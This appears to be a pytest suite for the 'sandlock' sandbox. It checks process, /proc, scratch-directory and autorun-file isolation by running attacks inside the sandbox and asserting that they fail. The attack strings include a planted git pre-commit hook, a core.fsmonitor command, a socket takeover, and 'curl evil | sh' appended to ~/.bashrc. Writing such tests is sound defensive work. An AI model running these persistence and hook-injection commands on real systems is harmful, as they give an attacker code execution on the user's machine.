"""The sandbox's own view of the machine (user, mount and PID namespaces): its /proc
without the host's processes or the kernel's secrets, private /tmp, /var/tmp and
/dev/shm, and autorun files read-only. Each attacked from inside a real sandbox."""

from __future__ import annotations

import json
import os
import socket
import shutil
import subprocess
import sys
import tempfile
import uuid
from pathlib import Path

import pytest

from conftest import SANDLOCK

PY = sys.executable
GIT_IDENTITY = {"GIT_AUTHOR_NAME": "Agent", "GIT_AUTHOR_EMAIL": "agent@example.test",
                "GIT_COMMITTER_NAME": "Agent", "GIT_COMMITTER_EMAIL": "agent@example.test"}


def confined(code: str, *args: str, options: tuple[str, ...] = (), as_user=lambda argv: argv,
             cwd: str | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    argv = as_user([*SANDLOCK, "run", *options, "--", PY, "-c", code, *args])
    return subprocess.run(argv, capture_output=True, text=True, timeout=60, cwd=cwd,
                          env={**os.environ, **(env or {})})


def shell(script: str, *options: str, cwd: Path, env: dict | None = None,
          ) -> subprocess.CompletedProcess:
    argv = [*SANDLOCK, "run", *options, "--", "sh", "-c", script]
    return subprocess.run(argv, capture_output=True, text=True, timeout=60, cwd=cwd,
                          env={**os.environ, **GIT_IDENTITY, **(env or {})})


def last_json(result: subprocess.CompletedProcess) -> dict:
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.splitlines()[-1])


# --- /proc ------------------------------------------------------------------------------

PROCESSES = """
import json, os, subprocess, sys, time
host = int(sys.argv[1])
child = subprocess.Popen(["sleep", "30"])
def cmdline(pid, wait=False):
    for _ in range(250):  # a child's command line shows once its exec has set it up
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                line = f.read().replace(b"\\0", b" ").decode().strip()
        except OSError as exc:
            return type(exc).__name__
        if line or not wait:
            return line
        time.sleep(0.02)
    return line
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print(json.dumps({"pids": pids, "host": cmdline(host), "child": cmdline(child.pid, wait=True),
                  "self": os.readlink("/proc/self") == str(os.getpid()),
                  "ps": subprocess.run(["ps", "-e", "-o", "comm="], capture_output=True,
                                       text=True).stdout.split()}))
child.kill()
"""


@pytest.fixture
def host_process():
    """A process of the same user outside the sandbox, with a token in its command line."""
    process = subprocess.Popen([PY, "-c", "import time; time.sleep(60)", "--token=s3cret"])
    yield process
    process.kill()
    process.wait()


def test_processes_outside_the_sandbox_do_not_exist_inside(host_process):
    got = last_json(confined(PROCESSES, str(host_process.pid)))
    assert host_process.pid not in got["pids"] and got["host"] == "FileNotFoundError"
    assert got["child"] == "sleep 30" and got["self"]  # its own processes work as before
    assert len(got["pids"]) <= 6, got  # init, the command, its children: nothing else
    assert "sleep" in got["ps"] and "s3cret" not in json.dumps(got)


def test_processes_outside_are_invisible_to_an_unprivileged_user(host_process, as_nobody,
                                                                 world_tmp):
    got = last_json(confined(PROCESSES, str(host_process.pid), as_user=as_nobody,
                             cwd=str(world_tmp)))
    assert host_process.pid not in got["pids"] and got["host"] == "FileNotFoundError"
    assert got["child"] == "sleep 30"


KERNEL_FILES = """
import json
out = {}
for name in ("kallsyms", "keys", "key-users", "timer_list"):
    try:
        with open("/proc/" + name, "rb") as f:
            out[name] = len(f.read())
    except OSError as exc:
        out[name] = type(exc).__name__
print(json.dumps(out))
"""


def test_kernel_files_of_proc_show_nothing():
    got = last_json(confined(KERNEL_FILES))
    # (mode 0: not even root, which holds no capability in there, may read the mask)
    assert set(got.values()) == {"PermissionError"}, got


def test_kernel_files_of_proc_are_refused_to_an_unprivileged_user(as_nobody, world_tmp):
    got = last_json(confined(KERNEL_FILES, as_user=as_nobody, cwd=str(world_tmp)))
    assert set(got.values()) == {"PermissionError"}, got


def test_sys_kernel_and_firmware_are_denied_even_under_a_grant_of_root():
    """Their files, that is: names stay listable under the grant (docs/usage.md)."""
    files = ["/sys/kernel/address_bits", "/sys/devices/system/cpu/online"]
    files += [os.path.join(d, f) for d, _, fs in os.walk("/sys/firmware") for f in fs][:1]
    code = ("import json, sys\nout = {}\n"
            "for path in sys.argv[1:]:\n"
            "    try: out[path] = bool(open(path).read())\n"
            "    except OSError as exc: out[path] = type(exc).__name__\n"
            "print(json.dumps(out))")
    got = last_json(confined(code, *files, options=("-r", "/")))
    assert got.pop("/sys/devices/system/cpu/online") is True
    assert set(got.values()) == {"PermissionError"}, got


INIT = """
import json, os, signal
out = {"ppid": os.getppid()}
with open("/proc/1/cmdline", "rb") as f:
    out["cmdline"] = f.read().strip(b"\\0").decode()
for name in ("environ", "maps", "mem"):
    try:
        open(f"/proc/1/{name}", "rb").read(1)
        out[name] = "read"
    except OSError as exc:
        out[name] = type(exc).__name__
try:
    os.kill(1, signal.SIGKILL)
    out["kill"] = "sent"
except OSError as exc:
    out["kill"] = type(exc).__name__
print(json.dumps(out))
"""


def test_the_namespaces_init_is_out_of_reach():
    """Init is a copy of sandlock (its memory, its command line with --env values)."""
    got = last_json(confined(INIT, options=("--env", "SECRET_IN_ARGV=hunter2")))
    assert got == {"ppid": 1, "cmdline": "", "environ": "PermissionError",
                   "maps": "PermissionError", "mem": "PermissionError",
                   "kill": "PermissionError"}


# --- private scratch directories --------------------------------------------------------

SCRATCH = """
import json, os, sys
host_file = sys.argv[1]
out = {"host_file": os.path.exists(host_file)}
for d in ("/tmp", "/var/tmp", "/dev/shm"):
    with open(os.path.join(d, "left-by-sandbox-" + sys.argv[2]), "w") as f:
        f.write("x")
    out[d] = sorted(os.listdir(d))
print(json.dumps(out))
"""


@pytest.fixture
def host_scratch_files():
    """World-writable files the host keeps in each scratch directory."""
    tag = uuid.uuid4().hex[:8]
    paths = []
    for directory in ("/tmp", "/var/tmp", "/dev/shm"):
        path = os.path.join(directory, f"host-file-{tag}")
        with open(path, "w") as f:
            f.write("host")
        os.chmod(path, 0o666)
        paths.append(path)
    yield tag, paths
    for path in paths:
        os.unlink(path)


# Alone: "nothing left behind" compares the host's /tmp, /var/tmp and /dev/shm before and
# after the run, and tests beside it (pytest -n) create and remove files there meanwhile.
@pytest.mark.alone(reason="compares the host's scratch directories before and after a run")
def test_scratch_directories_are_private_and_leave_nothing_behind(host_scratch_files, tmp_path):
    tag, paths = host_scratch_files
    before = {d: set(os.listdir(d)) for d in ("/tmp", "/var/tmp", "/dev/shm")}
    got = last_json(confined(SCRATCH, paths[0], tag, cwd=str(tmp_path)))
    assert got["host_file"] is False
    for directory in ("/var/tmp", "/dev/shm"):
        assert got[directory] == [f"left-by-sandbox-{tag}"]
    # /tmp shows only what it wrote, and the way to the workspace (pytest's tmp_path)
    assert f"host-file-{tag}" not in got["/tmp"] and f"left-by-sandbox-{tag}" in got["/tmp"]
    for directory in ("/tmp", "/var/tmp", "/dev/shm"):
        assert not os.path.exists(os.path.join(directory, f"left-by-sandbox-{tag}"))
    assert all(open(path).read() == "host" for path in paths)
    after = {d: set(os.listdir(d)) for d in ("/tmp", "/var/tmp", "/dev/shm")}
    assert all(after[d] <= before[d] for d in after), after  # nothing left behind


def test_a_workspace_under_tmp_survives_the_run(tmp_path):
    """The workspace is bound into the per-run /tmp; removing that directory after the
    run must never reach through to it (a walk in the sandbox's mount namespace would)."""
    workspace = tmp_path / "project"
    (workspace / "src").mkdir(parents=True)
    (workspace / "src" / "kept.txt").write_text("mine")
    result = shell("echo new > src/made.txt && mkdir -p /tmp/scratch && echo x > /tmp/scratch/f",
                   cwd=workspace)
    assert result.returncode == 0, result.stderr
    assert (workspace / "src" / "kept.txt").read_text() == "mine"
    assert (workspace / "src" / "made.txt").read_text() == "new\n"


def test_a_read_grant_under_tmp_stays_read_only_under_the_scratch_write_grant(tmp_path):
    """A host directory in /tmp granted for reading is bound back into the run's own
    /tmp, whose write grant would reach it through the mount (Landlock looks up the
    tree, across mounts): it is mounted read-only, and a write grant inside it is
    made writable again."""
    granted = Path(tempfile.mkdtemp(prefix="sandlock-test-read-", dir="/tmp"))
    try:
        (granted / "data").write_text("host\n")
        (granted / "out").mkdir()
        env = {"SANDLOCK_FS_READ": f"{os.environ['SANDLOCK_FS_READ']}:{granted}",
               "SANDLOCK_FS_WRITE": f"{os.environ['SANDLOCK_FS_WRITE']}:{granted / 'out'}"}
        result = shell(f"cat {granted}/data; echo changed > {granted}/data || echo refused; "
                       f"touch {granted}/new || echo refused; echo made > {granted}/out/file",
                       cwd=tmp_path, env=env)
        assert result.stdout == "host\nrefused\nrefused\n", result.stderr
        assert (granted / "data").read_text() == "host\n" and not (granted / "new").exists()
        assert (granted / "out" / "file").read_text() == "made\n"
    finally:
        shutil.rmtree(granted)


def test_two_sandboxes_do_not_share_their_tmp(tmp_path):
    writer = subprocess.Popen(
        [*SANDLOCK, "run", "--", "sh", "-c", "echo mine > /tmp/shared && echo ready && sleep 20"],
        stdout=subprocess.PIPE, text=True, cwd=tmp_path)
    try:
        assert writer.stdout.readline() == "ready\n"
        reader = confined("import os; print(os.path.exists('/tmp/shared'))", cwd=str(tmp_path))
        assert reader.stdout.strip() == "False"
    finally:
        writer.kill()
        writer.wait()


def test_a_host_programs_socket_in_tmp_cannot_be_taken_over(tmp_path):
    """The attack: rename the user's agent socket in /tmp and bind one in its place."""
    path = f"/tmp/agent-{uuid.uuid4().hex[:8]}.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    code = ("import os, socket, sys\n"
            "try: os.rename(sys.argv[1], sys.argv[1] + '.old'); print('renamed')\n"
            "except OSError as exc: print(type(exc).__name__)\n"
            "s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); print('bound')\n")
    try:
        result = confined(code, path, cwd=str(tmp_path))
        assert result.stdout.split() == ["FileNotFoundError", "bound"], result.stderr
        client = socket.socket(socket.AF_UNIX)
        client.connect(path)  # the user's client still reaches the user's server
        connection, _ = server.accept()
        client.sendall(b"token")
        assert connection.recv(5) == b"token"
        connection.close()
        client.close()
    finally:
        server.close()
        os.unlink(path)


def test_programs_that_use_tmp_keep_working(tmp_path):
    (tmp_path / "hello.c").write_text("int main(void) { return 0; }\n")
    script = ("f=$(mktemp) && echo data > \"$f\" && cat \"$f\" && "
              "python3 -c 'import tempfile; print(tempfile.mkdtemp().startswith(\"/tmp/\"))' && "
              "gcc -o hello hello.c && ./hello && echo compiled")
    result = shell(script, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["data", "True", "compiled"]


def test_a_tmpdir_in_the_hosts_tmp_is_made_again_in_the_sandboxs(tmp_path):
    """TMPDIR=/tmp/something (a per-user one): programs that use it keep working."""
    tmpdir = f"/tmp/user-tmp-{uuid.uuid4().hex[:8]}"
    os.mkdir(tmpdir)
    try:
        result = shell('f=$(mktemp) && echo data > "$f" && cat "$f" && ls -A "$TMPDIR" | wc -l',
                       cwd=tmp_path, env={"TMPDIR": tmpdir})
        assert result.returncode == 0, result.stderr
        assert result.stdout.split() == ["data", "1"]
        assert os.listdir(tmpdir) == []  # the host's stays untouched
    finally:
        os.rmdir(tmpdir)


def test_an_explicit_grant_of_tmp_is_the_real_tmp(tmp_path):
    name = f"/tmp/explicit-{uuid.uuid4().hex[:8]}"
    result = confined(f"open({name!r}, 'w').write('x')", options=("-r", "/", "-w", "/tmp"))
    try:
        assert result.returncode == 0, result.stderr
        assert open(name).read() == "x"
    finally:
        if os.path.exists(name):
            os.unlink(name)


def test_the_proxy_trust_bundle_in_tmp_stays_readable(tmp_path):
    """sandlock's own per-run files live in the host's /tmp, out of every sandbox's
    reach but the one they are for (HTTPS inspection runs: see test_https)."""
    result = confined("import os, ssl; print(os.path.exists(os.environ['SSL_CERT_FILE']))",
                      options=("--http-allow", "GET example.test/*"), cwd=str(tmp_path))
    assert result.stdout.strip() == "True", result.stderr


# --- autorun files ----------------------------------------------------------------------

# (sh says 2 when it cannot open a redirection's file: here, a read-only file system)
ATTACKS = ("echo evil > .git/hooks/pre-commit; echo hooks=$?; "
           "git config core.fsmonitor 'touch /tmp/pwned'; echo config=$?; "
           "mv .git .git-old; echo moved=$?; "
           "echo y > g && git add g && git commit -qm work && echo committed")


@pytest.fixture
def repository(tmp_path):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    return tmp_path


def test_git_hooks_and_config_stay_read_only_while_git_works(repository):
    result = shell(ATTACKS, cwd=repository)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["hooks=2", "config=4", "moved=1", "committed"]
    assert not (repository / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (repository / ".git" / "config").read_text()
    log = subprocess.run(["git", "-C", str(repository), "log", "--format=%s"],
                         capture_output=True, text=True)
    assert log.stdout == "work\n"


def test_a_repository_in_the_workspace_cannot_be_swapped_for_another(tmp_path):
    subprocess.run(["git", "init", "-q", str(tmp_path / "project")], check=True)
    result = shell("mv project elsewhere; echo moved=$?; "
                   "echo evil > project/.git/hooks/post-checkout; echo hook=$?", cwd=tmp_path)
    assert result.stdout.split() == ["moved=1", "hook=2"], result.stderr


def test_allow_autorun_writes_lifts_it(repository):
    result = shell(ATTACKS, "--allow-autorun-writes", cwd=repository)
    assert result.stdout.split()[:2] == ["hooks=0", "config=0"], result.stderr


def test_shell_start_up_files_under_a_write_grant_stay_read_only(unscratched):
    home = unscratched
    (home / ".bashrc").write_text("# the user's\n")
    (home / "notes").write_text("")
    script = ("echo 'curl evil | sh' >> ~/.bashrc; echo bashrc=$?; "
              "echo ok >> ~/notes; echo notes=$?")
    result = shell(script, "-r", "/", "-w", str(home), cwd=home, env={"HOME": str(home)})
    assert result.stdout.split() == ["bashrc=2", "notes=0"], result.stderr
    assert (home / ".bashrc").read_text() == "# the user's\n"


def test_autorun_files_stay_read_only_for_an_unprivileged_user(as_nobody, world_tmp):
    subprocess.run(["git", "init", "-q", str(world_tmp)], check=True)
    subprocess.run(["chown", "-R", "65534:65534", str(world_tmp)], check=True)
    argv = as_nobody([*SANDLOCK, "run", "--", "sh", "-c", ATTACKS])
    result = subprocess.run(argv, capture_output=True, text=True, timeout=60, cwd=world_tmp,
                            env={**os.environ, **GIT_IDENTITY})
    assert result.stdout.split() == ["hooks=2", "config=4", "moved=1", "committed"], result.stderr


CONTAINER = ("mount --bind /dev/null /proc/keys && "  # as container runtimes mask /proc files
             "{sandlock} run {options} -- sh -c 'echo ran; ls /proc | grep -c ^[0-9]'")


def test_where_no_procfs_of_its_own_can_be_mounted_run_fails_or_runs_best_effort(tmp_path):
    """A container whose /proc has masked files refuses a new procfs: said at once,
    with the way out; --best-effort runs without the namespaces, with a warning."""
    sandlock = " ".join(SANDLOCK)
    strict, relaxed = (
        subprocess.run(["unshare", "-Urm", "sh", "-c",
                        CONTAINER.format(sandlock=sandlock, options=options)],
                       capture_output=True, text=True, timeout=60, cwd=tmp_path)
        for options in ("", "--best-effort"))
    assert strict.returncode == 125
    assert "cannot make the sandbox's mounts" in strict.stderr
    assert "--allow-degraded NAMESPACES (or --best-effort) runs without them" in strict.stderr
    assert relaxed.returncode == 0 and relaxed.stdout.split()[0] == "ran", relaxed.stderr
    assert int(relaxed.stdout.split()[1]) > 10  # the host's processes: no namespace
    assert "namespaces are not available (refused a procfs of its own" in relaxed.stderr
